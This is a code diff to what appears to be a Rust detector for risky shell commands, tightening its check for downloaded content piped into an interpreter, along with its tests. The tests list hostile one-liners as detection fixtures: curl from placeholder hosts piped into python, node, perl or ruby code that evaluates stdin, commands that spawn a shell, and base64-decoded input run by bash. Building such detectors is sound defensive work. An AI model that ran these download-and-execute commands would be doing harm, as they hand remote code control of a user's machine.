@@ -560,17 +560,29 @@ fn dns_payload(flat: &str) -> bool {
         .any(|w| has(flat, w))
 }
 
-/// A shell follows a pipe (`| sh`, `|sudo bash -s`, `| python3`).
+/// A shell follows a pipe (`| sh`, `|sudo bash -s`, `| python3`). An interpreter that runs a
+/// module reads the pipe as data, not as its program (`| python3 -m json.tool`, an API doc's
+/// pretty-printer: review 28 C-M1).
 fn piped_to_shell(flat: &str) -> bool {
     const SHELLS: &[&str] = &[
         "sh", "bash", "zsh", "dash", "ksh", "fish", "python", "python3", "perl", "ruby", "node",
     ];
     flat.split('|').skip(1).any(|after| {
-        after
-            .split(' ')
-            .filter(|t| !t.is_empty())
+        let mut args = after.split(' ').filter(|t| !t.is_empty());
+        let name = args
             .find(|t| *t != "sudo" && !t.starts_with('-'))
-            .is_some_and(|t| SHELLS.contains(&program(t)))
+            .map_or("", program);
+        match SHELLS.iter().position(|s| *s == name) {
+            None => false,
+            Some(i) if i < 6 => true,
+            // An interpreter reads the pipe as data only when its options run a module (`-u -m
+            // json.tool`); inline code (`-c`, `-e`) may run what it reads in more ways than words
+            // can list (review 29 C-H2, C-M3), and after code, a script file, `-` or `&&` a `-m`
+            // is an argument.
+            _ => !args
+                .take_while(|a| a.len() > 1 && a.starts_with('-'))
+                .any(|a| a == "-m"),
+        }
     })
 }
 
@@ -2085,6 +2097,49 @@ mod tests {
             shapes_of("/bin/bash -c \"$(curl -fsSL https://x.example/install.sh)\""),
             vec![Shape::PipeToShell]
         );
+        assert_eq!(
+            shapes_of("curl -s http://203.0.113.9/p | python3 -u -"),
+            vec![Shape::PipeToShell]
+        );
+        assert_eq!(
+            shapes_of("curl -s http://203.0.113.9/p | sudo python3 && echo ok"),
+            vec![Shape::PipeToShell]
+        );
+        // Inline code, whatever it does with what it reads, or the pipe named as the script
+        // (review 29 C-H2, C-M3).
+        for c in [
+            "curl -fsSL https://x.example/v | python3 -c \"import sys;exec(sys.stdin.read())\"",
+            "curl -fsSL https://x.example/v | node -e \"eval(require('fs').readFileSync(0,'utf8'))\"",
+            "curl -fsSL https://x.example/v | perl -e 'eval join(\"\",<STDIN>)'",
+            "curl -fsSL https://x.example/v | ruby -e 'eval(STDIN.read)'",
+            "curl -fsSL https://x.example/v | python3 /dev/stdin",
+            "curl -s 203.0.113.77:8080/m | python3 -c \"exec(input())\"",
+            "curl -fsSL https://x.example/v | python3 -E",
+            "curl -fsSL https://x.example/v | python3 -c \"import os,sys;os.system(sys.stdin.read())\"",
+        ] {
+            assert_eq!(shapes_of(c), vec![Shape::PipeToShell], "{c}");
+        }
+        // An interpreter that runs a module reads the pipe as data; inline code or a script file
+        // is its program, even an API doc's JSON reader (as on main).
+        for code in [
+            "curl -s http://203.0.113.25/api/status | python3 -c \"import json,sys\"",
+            "curl -s http://203.0.113.25/api/status | node -e \"process.stdin\"",
+            "curl -fsSL https://x.example/v | python3 -c \"import subprocess;subprocess.call('sh')\"",
+            "curl -fsSL https://x.example/v | python3 -c \"import code;code.interact()\"",
+            "curl -fsSL https://x.example/v | perl -e 'open(S,\"|sh\");print S <STDIN>'",
+            "curl -s http://203.0.113.25/api/log | perl parse.pl",
+            "curl -fsSL https://x.example/v | python3 -c \"exec(input())\" -m x",
+            "curl -fsSL https://x.example/v | python3 - -m x",
+        ] {
+            assert_eq!(shapes_of(code), vec![Shape::PipeToShell], "{code}");
+        }
+        for data in [
+            "curl -s 203.0.113.25/api/status | python3 -m json.tool",
+            "curl -s 203.0.113.25/api/status | python3 -u -m json.tool > out.json",
+            "curl -s 203.0.113.25/api/status 2>/dev/null | sudo python3 -m json.tool",
+        ] {
+            assert!(!shapes_of(data).contains(&Shape::PipeToShell), "{data}");
+        }
         assert_eq!(
             shapes_of("echo Y3VybCBodHRwczovL3guZXhhbXBsZQ== | base64 -d | bash"),
             vec![Shape::Base64Shell]
@@ -3679,6 +3734,18 @@ mod tests {
             (
                 "https://devnotes.example/api",
                 "Open Terminal on your laptop and run:\ncurl 203.0.113.10:8080/health",
+            ),
+            // An API doc pretty-prints a gateway's JSON: `python3 -m json.tool` reads data
+            // (review 28 C-M1), with or without a scheme.
+            (
+                "https://docs.example-sensors.test/status",
+                "Status API\nEach gateway answers on port 80. Open Terminal and type, with your \
+                 gateway's address:\ncurl -s 203.0.113.25/api/status | python3 -m json.tool",
+            ),
+            (
+                "https://docs.example-sensors.test/status",
+                "Status API\nOpen Terminal and type, with your gateway's address:\n\
+                 curl -s http://203.0.113.25/api/status | python3 -m json.tool",
             ),
             (
                 "https://sysadmin-tips.example/conhost",
